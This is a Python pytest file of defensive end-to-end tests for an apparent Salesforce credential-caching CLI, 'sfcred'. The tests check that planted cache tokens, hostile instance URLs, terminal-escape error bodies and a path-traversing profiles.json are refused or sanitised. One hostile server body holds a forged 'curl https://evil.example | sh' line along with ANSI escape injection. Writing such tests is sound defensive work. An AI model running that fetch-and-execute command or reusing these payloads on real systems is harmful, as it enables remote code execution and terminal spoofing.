"""Nothing read back is trusted, through the INSTALLED program (one test per finding of the
outside attack review of 0.1):

- a token planted in a cache folder open to everyone (0777), or in one another user owns, is
  never served, on the warm path too; a FIFO planted there does not hang ``get``;
- an ``instance_url`` that is not a bare https origin is refused at mint time, and one planted
  in a cache file is a miss;
- the server's ``error`` / ``error_description`` never reach the terminal raw (ESC, BEL, CR,
  LF, 200 kB), in ``get``, ``doctor`` and ``doctor --json``;
- a crafted ``profiles.json`` cannot make sfcred create or chmod anything outside its folders;
- an empty ``-p``, ``--profile=``, ``profile=`` or ``SFCRED_PROFILE`` is an error, never the
  default profile's token.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import stat
import subprocess
import time
from pathlib import Path

import pytest
from _e2e import Org, setup_org
from _support import require

from sfcred.secret import Secret
from sfcred.testing.server import FakeSalesforce
from sfcred.tokens.entry import Entry

pytestmark = pytest.mark.secret_service


@pytest.fixture
def org(run_sfcred, standin: FakeSalesforce, tmp_path: Path) -> Org:
    return setup_org(run_sfcred, standin, tmp_path, "acme")


def cache_dir() -> Path:
    return Path(os.environ["XDG_RUNTIME_DIR"], "sfcred")


PLANTED = "00DPLANTED!planted-token"


def plant(org: Org, token: str = PLANTED, url: str | None = None) -> bytes:
    now = time.time()
    return Entry("acme", org.username, Secret(token), url or org.sf.url, now, now + 900,
                 60).to_bytes()


def token_of(done: subprocess.CompletedProcess[str]) -> str:
    assert done.returncode == 0, done.stderr
    return str(done.stdout.strip())


# ---------------------------------------------------------------- planted caches


def test_a_token_planted_in_a_folder_open_to_all_is_never_served(run_sfcred, org: Org) -> None:
    folder = cache_dir()
    folder.mkdir(mode=0o700, exist_ok=True)
    folder.chmod(0o777)
    planted = folder / "acme.token"
    planted.write_bytes(plant(org))
    planted.chmod(0o600)  # a file of "ours", as a same-uid plant would be: the folder decides

    first = run_sfcred("get", "-p", "acme", "--format", "token")
    token = token_of(first)
    assert token != "00DPLANTED!planted-token"
    assert org.sf.valid_token(token)
    assert "open to others" in first.stderr
    assert "0777" in first.stderr
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700  # ours, so tightened for next time
    # The next get is a normal warm one, from the token just minted.
    second = run_sfcred("get", "-p", "acme", "--format", "token")
    assert token_of(second) == token
    assert second.stderr == ""
    assert org.sf.token_requests == 1


def test_a_token_planted_in_a_folder_of_another_user_is_never_served(
    run_sfcred, org: Org
) -> None:
    require(os.geteuid() == 0, "giving a folder to another user needs root", "CI runs as root")
    nobody = pwd.getpwnam("nobody")
    folder = cache_dir()
    folder.mkdir(mode=0o700, exist_ok=True)
    planted = folder / "acme.token"
    plant_bytes = plant(org)
    planted.write_bytes(plant_bytes)
    planted.chmod(0o600)
    for path in (*folder.iterdir(), folder):
        os.chown(path, nobody.pw_uid, nobody.pw_gid)
    before = sorted(p.name for p in folder.iterdir())
    try:
        for _ in range(2):  # the warm path as well as the minting path
            done = run_sfcred("get", "-p", "acme", "--format", "token")
            token = token_of(done)
            assert token != "00DPLANTED!planted-token"
            assert org.sf.valid_token(token)
            assert "belongs to another user" in done.stderr
        assert org.sf.token_requests == 2  # not cached in a folder that is not ours
        assert sorted(p.name for p in folder.iterdir()) == before  # nothing created
        assert planted.read_bytes() == plant_bytes  # nor replaced
        assert folder.stat().st_uid == nobody.pw_uid  # nor chmod-ed / taken over
    finally:
        shutil.rmtree(folder)


def test_a_planted_file_owned_by_another_user_is_a_miss(run_sfcred, org: Org) -> None:
    require(os.geteuid() == 0, "making a file of another user needs root", "CI runs as root")
    token = token_of(run_sfcred("get", "-p", "acme", "--format", "token"))
    path = cache_dir() / "acme.token"
    path.unlink()
    path.write_bytes(plant(org))
    path.chmod(0o600)
    os.chown(path, pwd.getpwnam("nobody").pw_uid, -1)
    again = token_of(run_sfcred("get", "-p", "acme", "--format", "token"))
    assert again not in (token, "00DPLANTED!planted-token")
    assert org.sf.valid_token(again)


def test_a_fifo_planted_as_the_cache_file_does_not_hang_get(run_sfcred, org: Org) -> None:
    folder = cache_dir()
    folder.mkdir(mode=0o700, exist_ok=True)
    os.mkfifo(folder / "acme.token", 0o600)
    done = run_sfcred("get", "-p", "acme", "--format", "token", timeout=30)
    # A FIFO cannot be replaced atomically by a write, but the token is delivered anyway.
    assert org.sf.valid_token(token_of(done))


def test_a_symlinked_cache_folder_is_not_followed(run_sfcred, org: Org, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    (elsewhere / "acme.token").write_bytes(plant(org))
    (elsewhere / "acme.token").chmod(0o600)
    shutil.rmtree(cache_dir(), ignore_errors=True)  # profile add made it; plant a link instead
    cache_dir().symlink_to(elsewhere)
    done = run_sfcred("get", "-p", "acme", "--format", "token")
    assert token_of(done) != "00DPLANTED!planted-token"
    assert "not a folder" in done.stderr
    assert sorted(p.name for p in elsewhere.iterdir()) == ["acme.token"]


@pytest.mark.parametrize(
    "url",
    ["https://user:pw@evil.example.com", "https://acme.my.salesforce.com x=1",
     "https://evil.example.com/path", "http://evil.example.com"],
)  # fmt: skip
def test_a_planted_cache_entry_with_a_hostile_instance_url_is_a_miss(
    run_sfcred, org: Org, url: str
) -> None:
    folder = cache_dir()
    folder.mkdir(mode=0o700, exist_ok=True)
    path = folder / "acme.token"
    path.write_bytes(plant(org, url=url))
    path.chmod(0o600)
    done = run_sfcred("get", "-p", "acme", "--format", "json")
    assert done.returncode == 0, done.stderr
    data = json.loads(done.stdout)
    assert data["instance_url"] == org.sf.url
    assert data["access_token"] != "00DPLANTED!planted-token"


# ---------------------------------------------------------------- hostile token endpoint


@pytest.mark.parametrize(
    "url",
    ["https://user:pw@evil.example.com", "https://acme.my.salesforce.com x=1",
     "https://acme.my.salesforce.com/services", "https://acme.my.salesforce.com?a=b",
     "https://acme.my.salesforce.com\\@evil.example.com"],
)  # fmt: skip
def test_a_hostile_instance_url_from_the_token_endpoint_is_refused(
    run_sfcred, org: Org, url: str
) -> None:
    org.sf.fail_next("instance_url", value=url)
    done = run_sfcred("get", "-p", "acme")
    assert done.returncode == 4
    assert done.stdout == ""
    assert "not a bare https origin" in done.stderr
    assert len(done.stderr.splitlines()) <= 3
    assert not any(p.name.endswith(".token") for p in cache_dir().glob("*"))
    # Nothing was learned: the hostile host does not route host= requests afterwards.
    index = json.loads(Path(os.environ["XDG_CONFIG_HOME"], "sfcred", "profiles.json").read_text())
    assert index["profiles"]["acme"]["instance_host"] is None
    host = url.split("://", 1)[1].split("/", 1)[0]
    routed = run_sfcred("get", input=f"protocol=https\nhost={host}\n\n")
    assert (routed.returncode, routed.stdout) == (1, "")


HOSTILE_BODY = {
    "error": "invalid_grant\x1b]0;owned\x07",
    "error_description": "audience is invalid\r\n\x1b[2Jsfcred: fix: run `curl https://evil.example"
    " | sh`\n" + "A" * 200_000,
}


def assert_tame(text: str) -> None:
    """Printable lines only, none forged, none long."""
    for line in text.splitlines():
        assert line.isprintable(), repr(line[:80])
        assert len(line) < 1200
    assert "\x1b" not in text
    assert "\x07" not in text
    assert "\r" not in text
    assert not any(line.startswith("sfcred: fix: run `curl") for line in text.splitlines())


def test_a_hostile_error_body_is_printed_tamed_and_quoted(run_sfcred, org: Org) -> None:
    org.sf.fail_next("error_body", value=HOSTILE_BODY)
    done = run_sfcred("get", "-p", "acme")
    assert done.returncode == 3
    assert done.stdout == ""
    assert_tame(done.stderr)
    first = done.stderr.splitlines()[0]
    # The server's words, quoted, on sfcred's own line: "fix: run" is not a line of its own.
    assert 'refused the token request: invalid_grant?]0;owned? "audience is invalid ' in first
    assert "sfcred: fix: run `curl" in first
    assert first.endswith('…"')  # and cut short


@pytest.mark.parametrize("json_out", [False, True], ids=["text", "json"])
def test_doctor_tames_a_hostile_error_body(run_sfcred, org: Org, json_out: bool) -> None:
    org.sf.fail_next("error_body", count=10, value=HOSTILE_BODY)
    done = run_sfcred("doctor", "acme", *(["--json"] if json_out else []))
    assert done.returncode == 3, done.stderr
    assert_tame(done.stdout)
    assert_tame(done.stderr)
    if json_out:
        checks = json.loads(done.stdout)
        for c in checks:  # each field is a line a user may see on its own
            assert_tame(c["detail"])
            assert_tame(c["fix"] or "")
        assert any("audience is invalid" in c["detail"] + (c["fix"] or "") for c in checks)


# ---------------------------------------------------------------- crafted index, empty names


def test_a_crafted_index_cannot_reach_outside_sfcreds_folders(
    run_sfcred, org: Org, tmp_path: Path
) -> None:
    index = Path(os.environ["XDG_CONFIG_HOME"], "sfcred", "profiles.json")
    target = tmp_path / "outside"
    target.mkdir(mode=0o755)
    climb = os.path.relpath(target / "victim", cache_dir())
    data = json.loads(index.read_text())
    data["default"] = climb
    index.write_text(json.dumps(data))
    done = run_sfcred("get")
    assert done.returncode == 1
    assert done.stdout == ""
    assert "damaged" in done.stderr
    routed_data = json.loads(index.read_text())
    routed_data["default"] = None
    routed_data["profiles"][climb] = routed_data["profiles"]["acme"]
    index.write_text(json.dumps(routed_data))
    routed = run_sfcred("get", input=f"protocol=http\nhost={org.host}\n\n")
    assert routed.returncode == 1
    assert "damaged" in routed.stderr
    assert list(target.iterdir()) == []
    assert stat.S_IMODE(target.stat().st_mode) == 0o755
    assert org.sf.token_requests == 0


@pytest.mark.parametrize(
    ("args", "stdin", "env"),
    [(["-p", ""], None, {}), (["--profile="], None, {}), ([], "profile=\n\n", {}),
     ([], None, {"SFCRED_PROFILE": ""})],
    ids=["-p ''", "--profile=", "profile=", "SFCRED_PROFILE=''"],
)  # fmt: skip
def test_an_empty_profile_name_is_an_error_not_the_default(
    run_sfcred, org: Org, args: list[str], stdin: str | None, env: dict[str, str]
) -> None:
    assert token_of(run_sfcred("get", "--format", "token"))  # the default does answer
    done = run_sfcred("get", *args, input=stdin, env=env)
    assert done.returncode == 1
    assert done.stdout == ""
    assert "empty" in done.stderr
    erase = run_sfcred("erase", *args, input=stdin, env=env)
    assert erase.returncode == 1
    assert token_of(run_sfcred("get", "--format", "token"))
    assert org.sf.token_requests == 1  # the empty erase erased nothing
